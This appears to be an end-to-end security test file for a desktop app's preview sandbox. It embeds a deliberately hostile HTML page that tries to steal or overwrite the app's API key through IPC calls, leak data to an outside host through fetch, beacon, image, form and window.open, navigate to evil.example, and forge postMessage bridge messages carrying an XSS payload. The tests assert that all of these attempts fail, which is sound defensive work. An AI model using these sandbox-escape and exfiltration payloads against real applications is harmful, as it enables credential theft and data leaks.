// A generated page is untrusted code. This one, served exactly as a generation's page is (the
// mock vendor writes it with create_file; the app serves it on the preview scheme into a
// sandboxed iframe), tries everything it should not be able to do. Every attempt must fail and
// the app must keep working.
import { after, before, test } from "node:test";
import assert from "node:assert/strict";
import http from "node:http";
import { join } from "node:path";
import { appProcesses, invokeInPage, launchApp, poll, saveDrawnScreenshot, textGeneration, useMockOpenAi } from "../harness.mjs";
import { processTree } from "../procs.mjs";
import { startMockVendor } from "../mock-vendor.mjs";

const KEY = "sk-e2e-hostile-0123456789abcdef";

// Each attempt resolves to "allowed: …" if it did something, "blocked: …" if it threw or was
// refused. Results go to the parent the only way a sandboxed page can talk: postMessage.
const HOSTILE = `<!DOCTYPE html>
<html><head><title>Totally harmless</title></head>
<body><h1>Nothing to see</h1>
<script>
// Shown by the app in a view of its own (src-tauri/src/preview/native/), framed on the view's
// stage, the page tries to reach the address in ?leak= every way a page can, then says what it
// is by going to its own address with what it found (the test reads where the view's page
// went), then tries to leave. Nothing may arrive at ?leak=, and the page must stay in its variant.
const own = new URLSearchParams(location.search);
if (own.get("leak") && own.get("step") === "2") {
  window.location.assign(own.get("leak") + "/leak-navigation");
  // Still here: the way out was shut. Says so the only way it can.
  setTimeout(() => window.location.assign(location.href.replace("step=2", "step=3")), 300);
}
else if (own.get("leak")) (async () => {
  const leak = own.get("leak");
  const settle = (p) => Promise.race([Promise.resolve(p).catch(() => null), new Promise((ok) => setTimeout(ok, 3000))]);
  await settle(fetch(leak + "/leak-fetch", { mode: "no-cors" }));
  await settle(new Promise((ok) => { const img = new Image(); img.onload = img.onerror = ok; img.src = leak + "/leak-img"; }));
  try { navigator.sendBeacon(leak + "/leak-beacon", "x"); } catch (e) {}
  await settle(fetch("ipc://localhost/key_set", { method: "POST", body: JSON.stringify({ provider: "openai", key: "stolen" }) }));
  try { window.__TAURI_INTERNALS__.invoke("key_set", { provider: "openai", key: "stolen" }); } catch (e) {}
  try { window.open(leak + "/leak-open"); } catch (e) {}
  try { const f = document.createElement("form"); f.method = "POST"; f.action = leak + "/leak-form"; document.body.appendChild(f); f.submit(); } catch (e) {}
  await new Promise((ok) => setTimeout(ok, 200));
  const found = new URLSearchParams({ step: "2", origin: String(window.origin), tauri: typeof window.__TAURI_INTERNALS__ + "/" + typeof window.__TAURI__, storage: (() => { try { localStorage.setItem("s2c", "x"); return "yes"; } catch (e) { return "no"; } })() });
  window.location.assign(location.href + "&" + found);
})();
else (async () => {
  const results = {};
  const attempt = async (name, fn) => {
    try {
      const value = await Promise.race([fn(), new Promise((_, no) => setTimeout(() => no(new Error("no answer")), 3000))]);
      results[name] = "allowed: " + String(value).slice(0, 120);
    } catch (e) {
      results[name] = "blocked: " + String(e && e.message || e).slice(0, 120);
    }
  };
  // Worst case: the page knows every id of another stored variant and of the live generation,
  // but not the token the app minted for them.
  const q = new URLSearchParams(location.search);
  const guesses = [
    "/p/" + q.get("project") + "/" + q.get("version") + "/" + q.get("variant") + "/index.html",
    "/live/" + q.get("generation") + "/1/index.html",
    "/live/" + q.get("generation") + "/0/index.html",
    "/t/00000000000000000000000000000000/index.html",
  ];
  const readAny = async (get) => {
    for (const path of guesses) {
      const text = await get("preview://localhost" + path).catch(() => null);
      if (text !== null) return path + " -> " + text;
    }
    throw new Error("nothing readable");
  };
  const fetchText = (url) => fetch(url).then((r) => (r.ok ? r.text() : Promise.reject(new Error(String(r.status)))));
  const xhrText = (url) => new Promise((ok, no) => { const x = new XMLHttpRequest(); x.open("GET", url); x.onload = () => (x.status === 200 ? ok(x.responseText) : no(new Error(String(x.status)))); x.onerror = () => no(new Error("xhr error")); x.send(); });
  await attempt("own_tauri_internals", () => window.__TAURI_INTERNALS__.invoke("app_info"));
  await attempt("own_tauri_global", () => window.__TAURI__.core.invoke("app_info"));
  await attempt("parent_tauri_internals", () => window.parent.__TAURI_INTERNALS__.invoke("key_set", { provider: "openai", key: "stolen" }));
  await attempt("top_tauri_internals", () => window.top.__TAURI_INTERNALS__.invoke("app_info"));
  await attempt("parent_document", () => window.parent.document.title);
  await attempt("parent_location_read", () => window.parent.location.href);
  await attempt("top_navigation", () => { window.top.location.href = "https://evil.example/"; return "assigned"; });
  await attempt("open_window", () => { const w = window.open("https://evil.example/"); if (!w) throw new Error("null window"); return "opened"; });
  await attempt("fetch_app_origin", () => fetch("tauri://localhost/").then((r) => r.text()));
  await attempt("fetch_ipc", () => fetch("ipc://localhost/app_info", { method: "POST", body: "{}" }).then((r) => r.text()));
  await attempt("fetch_other_preview", () => readAny(fetchText));
  await attempt("xhr_other_preview", () => readAny(xhrText));
  await attempt("fetch_internet", () => fetch("https://example.com/").then((r) => r.status));
  await attempt("app_cookies", () => { const c = document.cookie; return "cookie=" + c; });
  await attempt("app_local_storage", () => { localStorage.setItem("s2c", "x"); return localStorage.getItem("s2c"); });
  window.parent.postMessage({ type: "s2c-hostile-results", results }, "*");
  // Forged bridge messages: the app must treat them as nothing more than a selection.
  window.parent.postMessage({ type: "s2c-select", html: "<img src=x onerror=alert(1)>", selector: "body" }, "*");
  window.parent.postMessage({ type: "__tauri_ipc", cmd: "key_set", payload: { provider: "openai", key: "x" } }, "*");
})();
</script></body></html>`;

let vendor;
let app;
let previewUrl;

before(async () => {
  vendor = await startMockVendor({ delayMs: () => 0, page: () => HOSTILE });
  app = await launchApp();
  await (await app.browser.$("h1=Screenshot to Code")).waitForDisplayed({ timeout: 20_000 });
  await useMockOpenAi(app.browser, vendor.url, KEY);
});

after(async () => {
  await app?.close();
  await vendor?.close();
});

test("a hostile generated page can do nothing but draw itself", async () => {
  const project = (await invokeInPage(app.browser, "project_create", { name: "Hostile", parentDir: join(app.home, "p") })).ok;
  const started = await app.browser.executeAsync((request, done) => {
    const internals = window.__TAURI_INTERNALS__;
    window.__finished = false;
    const id = internals.transformCallback((raw) => {
      if (raw?.message?.type === "finished") window.__finished = true;
    });
    internals.invoke("generation_start", { request, onEvent: `__CHANNEL__:${id}` }).then((ok) => done({ ok }), (err) => done({ err }));
  }, textGeneration(project.id, "A harmless page"));
  assert.ok(started.ok, JSON.stringify(started));
  await poll("the generation to finish", () => app.browser.execute(() => window.__finished), { timeout: 30_000, interval: 200 });
  const g = started.ok;
  await poll(
    "the version to be stored",
    async () => (await invokeInPage(app.browser, "project_versions", { projectId: project.id })).ok?.current_version === g.version_id,
    { timeout: 30_000, interval: 200 },
  );
  const ids = new URLSearchParams({
    project: project.id,
    version: String(g.version_id),
    variant: String(g.variants[0].variant_id),
    generation: String(g.generation_id),
  });
  const url = `${g.variants[0].preview_url}?${ids}`;
  previewUrl = url;
  // A cookie of the app's own page, which the preview must not see.
  await app.browser.execute(() => {
    document.cookie = "s2c_app=secret-cookie";
  });

  const report = await app.browser.executeAsync((url, done) => {
    const frame = document.createElement("iframe");
    frame.setAttribute("sandbox", "allow-scripts");
    frame.style.cssText = "width:600px;height:300px;position:fixed;left:0;top:0;z-index:99999;background:white";
    window.__forged = [];
    window.addEventListener("message", (e) => {
      if (e.source !== frame.contentWindow) return;
      if (e.data?.type === "s2c-hostile-results") done(e.data.results);
      else window.__forged.push(e.data?.type);
    });
    frame.src = url;
    document.body.appendChild(frame);
    setTimeout(() => done(null), 40_000);
  }, url);
  assert.ok(report, "the page reported back");
  const allowed = Object.entries(report).filter(([, v]) => v.startsWith("allowed"));
  // Assigning top.location from a sandbox without allow-top-navigation is refused by the
  // browser without an exception in some engines; the window's own URL below is the proof.
  // Reading document.cookie in an opaque origin gives "" in WebKit instead of throwing: fine as
  // long as the app's cookie is not in it.
  const harmless = allowed.filter(
    ([k, v]) => !(k === "top_navigation" && v === "allowed: assigned") && !(k === "app_cookies" && v === "allowed: cookie="),
  );
  assert.deepEqual(harmless, [], JSON.stringify(report, null, 1));
  assert.doesNotMatch(report.app_cookies, /secret-cookie/);
  for (const name of ["own_tauri_internals", "parent_tauri_internals", "parent_document", "fetch_app_origin", "fetch_ipc", "fetch_other_preview", "xhr_other_preview", "fetch_internet", "app_local_storage"]) {
    assert.match(report[name], /^blocked/, `${name}: ${report[name]}`);
  }

  await saveDrawnScreenshot(app.browser, "hostile-page");
  // The app is where it was, works, and no key was replaced.
  const location = await app.browser.execute(() => window.location.href);
  assert.match(location, /^(tauri:\/\/localhost|http:\/\/tauri\.localhost)/, location);
  const info = await invokeInPage(app.browser, "app_info", {});
  assert.ok(info.ok?.version, JSON.stringify(info));
  const keys = await invokeInPage(app.browser, "keys_status", {});
  assert.ok(keys.ok.find((k) => k.provider === "openai")?.set);
  const handles = await app.browser.getWindowHandles();
  assert.equal(handles.length, 1, "no window was opened");
});

// While an option writes, the app shows its page in a WebKit view of its own process, not in a
// frame: the same page there can reach nothing either, and cannot take the view elsewhere.
test("in the page's own view, a hostile page reaches nothing and stays put", async () => {
  assert.ok(previewUrl, "the first test made a preview");
  // Anything that reaches this server, in any form, is a leak.
  const reached = [];
  const outside = http.createServer((req, res) => {
    reached.push(`${req.method} ${req.url}`);
    res.end("ok");
  });
  await new Promise((ok) => outside.listen(0, "127.0.0.1", ok));
  after(() => outside.close());
  const url = `${previewUrl}&leak=${encodeURIComponent(`http://127.0.0.1:${outside.address().port}`)}`;
  const shown = await invokeInPage(app.browser, "native_preview_show", { url, bounds: { x: 0, y: 0, width: 600, height: 300 }, zoom: 1 });
  assert.ok(!shown.err, JSON.stringify(shown));
  const state = await poll(
    "the page to find its last way out, leaving its variant, shut",
    async () => {
      const now = (await invokeInPage(app.browser, "native_preview_state", {})).ok;
      return now.at?.includes("step=3") ? now : null;
    },
    { timeout: 30_000, interval: 200 },
  );
  assert.equal(state.shown, true);
  assert.equal(state.url, url);
  assert.ok(state.at?.startsWith(url.split("index.html")[0]), `the view left the variant: ${state.at}`);
  // What the page found, from its own address: an opaque origin (sandboxed as a frame is), no
  // way to the app, no storage.
  const found = new URL(state.at).searchParams;
  assert.equal(found.get("step"), "3", `the page did not get to say what it found: ${state.at}`);
  assert.equal(found.get("origin"), "null", "the page is not sandboxed");
  assert.equal(found.get("tauri"), "undefined/undefined", "the page can see the app's IPC");
  assert.equal(found.get("storage"), "no", "the page has storage");
  assert.deepEqual(reached, [], "the page reached the outside");
  // An address that is not a variant's page is refused before it reaches the view.
  for (const away of ["https://example.com/", "tauri://localhost/index.html", "file:///etc/passwd"]) {
    const refused = await invokeInPage(app.browser, "native_preview_show", { url: away, bounds: { x: 0, y: 0, width: 600, height: 300 }, zoom: 1 });
    assert.equal(refused.err?.code, "invalid_input", `${away}: ${JSON.stringify(refused)}`);
  }
  await saveDrawnScreenshot(app.browser, "hostile-page-own-view");
  await invokeInPage(app.browser, "native_preview_hide", {});
  const keys = await invokeInPage(app.browser, "keys_status", {});
  assert.ok(keys.ok.find((k) => k.provider === "openai")?.set);
  const asked = vendor.requests.length;
  await invokeInPage(app.browser, "key_test", { provider: "openai" });
  assert.deepEqual(vendor.requests.slice(asked).map((r) => r.authorization), [`Bearer ${KEY}`], "the key was replaced by the page in its own view");
});

// The page's own view draws in a web process of its own. When that process ends (it crashed, or
// the system ended it for memory), the view loads its page again in a new one, and the window
// goes on as if nothing happened.
test("the page's own view comes back when its process ends", async () => {
  assert.ok(previewUrl, "the first test made a preview");
  const [root] = appProcesses();
  assert.ok(root, "the app is running");
  // The window's web process started with the app; any later one is the view's.
  const views = () =>
    processTree(root)
      .filter((p) => p.name.startsWith("WebKitWebProc"))
      .sort((a, b) => a.startTicks - b.startTicks || a.pid - b.pid)
      .slice(1)
      .map((p) => p.pid);
  const shown = await invokeInPage(app.browser, "native_preview_show", { url: previewUrl, bounds: { x: 0, y: 0, width: 600, height: 300 }, zoom: 1 });
  assert.ok(!shown.err, JSON.stringify(shown));
  await poll("the view to show its page", async () => (await invokeInPage(app.browser, "native_preview_state", {})).ok?.at?.startsWith(previewUrl.split("index.html")[0]) ?? false, { timeout: 30_000, interval: 200 });
  const before = (await invokeInPage(app.browser, "native_preview_state", {})).ok;
  const ended = views();
  assert.ok(ended.length > 0, "the view has no web process of its own");
  for (const pid of ended) process.kill(pid, "SIGKILL");

  // Loading its page again starts a new web process for it (nothing else would).
  const state = await poll(
    "the view to load its page again, in a new process, after its process ended",
    async () => {
      const now = (await invokeInPage(app.browser, "native_preview_state", {})).ok;
      const fresh = views();
      const reloaded = fresh.length > 0 && fresh.every((pid) => !ended.includes(pid));
      return reloaded && now.restarts > before.restarts && now.shown && now.at?.startsWith(previewUrl.split("index.html")[0]) ? now : null;
    },
    { timeout: 30_000, interval: 200 },
  );
  assert.equal(state.url, previewUrl);
  // The window itself never noticed.
  const info = await invokeInPage(app.browser, "app_info", {});
  assert.ok(info.ok?.version, JSON.stringify(info));
  await invokeInPage(app.browser, "native_preview_hide", {});
});

// Tauri counts the preview scheme as the app's own, so a preview that became the window's own
// document would be handed the app's plugins. However it got there, the window goes back to the
// app's page at once (and the plugins refuse it meanwhile: lib_tests.rs).
test("a preview never stays the window's own page", async () => {
  assert.ok(previewUrl, "the first test made a preview");
  // A mark on this document: the page the window comes back to is a new one.
  await app.browser
    .execute((url) => {
      window.__beforeTheDetour = true;
      window.location.href = url;
    }, previewUrl)
    .catch(() => {});
  await poll(
    "the window to be back on a fresh app page",
    async () => {
      const [href, marked] = await app.browser.execute(() => [window.location.href, window.__beforeTheDetour === true]);
      return /^(tauri:\/\/localhost|http:\/\/tauri\.localhost)/.test(href) && !marked;
    },
    { timeout: 20_000, interval: 100 },
  );
  await (await app.browser.$("h1=Screenshot to Code")).waitForDisplayed({ timeout: 20_000 });
  const info = await invokeInPage(app.browser, "app_info", {});
  assert.ok(info.ok?.version, JSON.stringify(info));
  // The page tries key_set when it can reach the app: the stored key must still be ours (Test
  // sends it to the mock vendor, which records what it got).
  const asked = vendor.requests.length;
  await invokeInPage(app.browser, "key_test", { provider: "openai" });
  const sent = vendor.requests.slice(asked).map((r) => r.authorization);
  assert.deepEqual(sent, [`Bearer ${KEY}`], "the key was replaced while a preview was the window's page");
});
